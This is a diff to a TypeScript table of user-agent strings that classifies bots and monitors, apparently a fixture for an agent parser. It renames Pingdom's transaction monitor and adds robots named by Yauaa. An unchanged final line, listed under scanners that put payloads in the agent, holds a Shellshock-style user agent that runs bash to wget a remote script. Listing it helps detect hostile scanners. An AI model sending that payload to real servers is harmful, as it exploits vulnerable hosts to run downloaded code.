@@ -199,8 +199,9 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
     {
       ua:
         "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) PingdomTMS/0.8.5 Safari/534.34",
-      token: "unknown",
-      category: "other",
+      // named since Yauaa's named robots joined the catalog (Pingdom's transaction monitor)
+      token: "PingdomTMS",
+      category: "monitoring",
     },
     {
       ua:
@@ -334,6 +335,25 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
       category: "other",
     },
     { ua: "S3 Browser 8.6.7 https://s3browser.com", token: "unknown", category: "other" },
+  ],
+  "robots and scanners named by Yauaa's lookups, as its own test agents print them": [
+    {
+      ua:
+        "Amazon-Route53-Health-Check-Service (ref d34006d5-e0af-47af-9569-e453d7a631f0; report http://amzn.to/1vsZADi)",
+      token: "Amazon-Route53-Health-Check-Service",
+      category: "other",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) DownloaderChrome/62.0.3202.75 Safari/537.36",
+      token: "DownloaderChrome",
+      category: "other",
+    },
+    {
+      ua: "Mozilla/5.0 (X11; Linux i686; rv:10.0.2) Gecko/20100101 Firefox/10.0.2 DejaClick/2.4.1.6",
+      token: "DejaClick",
+      category: "other",
+    },
   ],
   "scanners that put payloads in the agent": [
     { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
